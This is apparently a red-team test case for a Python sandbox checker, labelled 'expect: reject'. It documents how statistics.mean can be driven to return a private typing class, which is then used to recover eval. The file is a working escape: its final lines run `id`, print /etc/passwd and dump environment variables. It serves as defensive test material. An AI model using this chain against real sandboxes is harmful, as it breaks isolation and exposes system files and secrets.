# expect: reject class_value
# line: 57
# why: the red team's round 27b ok_01: statistics.mean converts its result to the type of its data (T(value)); with a class among the data T is type itself, and the result a class by value
# ok_01 -- goal 1 (full escape): runs `id`, prints /etc/passwd and os.environ.
#
# Mechanism: statistics.mean calls a class it took from a value.
#   statistics._sum groups the data by type(x) and folds the types with _coerce;
#   mean() then returns _convert(total / n, T), i.e. T(value), where T is the
#   type of a data element and value is whatever total / n is.
#   * An int subclass whose as_integer_ratio() raises ValueError (and whose
#     is_finite() answers False) sends _exact_ratio down its "(x, None)" branch,
#     so total = partials[None] = 0 + x  -> our __radd__ -> x, and
#     total / n -> our __truediv__ -> ANY value we choose (here typing.List[int]).
#   * A program class with numerator/denominator attributes is a second data
#     element; its type is the builtin `type`, and _coerce(int-subclass, type)
#     answers `type` (issubclass(T, int) -> return S).
#   So statistics.mean([Odd(1), Ratio]) == type(typing.List[int]) ==
#   typing._GenericAlias, a private class handed back as a plain value.
#   Calling it as _GenericAlias(dict, ("eval",), name="__builtins__") gives an
#   alias whose __reduce__ is operator.getitem(typing_globals["__builtins__"],
#   "eval"); copy.deepcopy reconstructs that, i.e. hands back the real eval.
#
# Why the checker missed it: rule class_value (analyzer/classes.c,
#   check_class_value; analyzer/names.c) only treats type(x), x.__class__,
#   class patterns, typing.get_origin/get_args (facades.txt "class" spec) as
#   classes-by-value. A library call's result is otherwise plain data; the
#   mechanical audit (scripts/audit-class-results.py) probes statistics.mean
#   with no argument / typing aliases / program classes, never with a list
#   whose elements drive _sum's (x, None) branch and _coerce to `type`, so
#   statistics is not known to call (and return) type(element)(value).
#   The result `maker` is then an ordinary name, called freely; the alias and
#   copy.deepcopy of it are judged as plain values.
import statistics
import typing
import copy


class Odd(int):
    def as_integer_ratio(self):
        raise ValueError("no ratio")

    def is_finite(self):
        return False

    def __radd__(self, other):
        return self

    def __truediv__(self, other):
        return typing.List[int]


class Ratio:
    numerator = 1
    denominator = 1


maker = statistics.mean([Odd(1), Ratio])
print("statistics.mean handed back:", maker)
alias = maker(dict, ("eval",), name="__builtins__")
ev = copy.deepcopy(alias)
print("copy.deepcopy handed back:", ev)
ev("print(__import__('os').popen('id').read())")
ev("print(__import__('builtins').open('/etc/passwd').read())")
ev("print(dict(__import__('os').environ))")
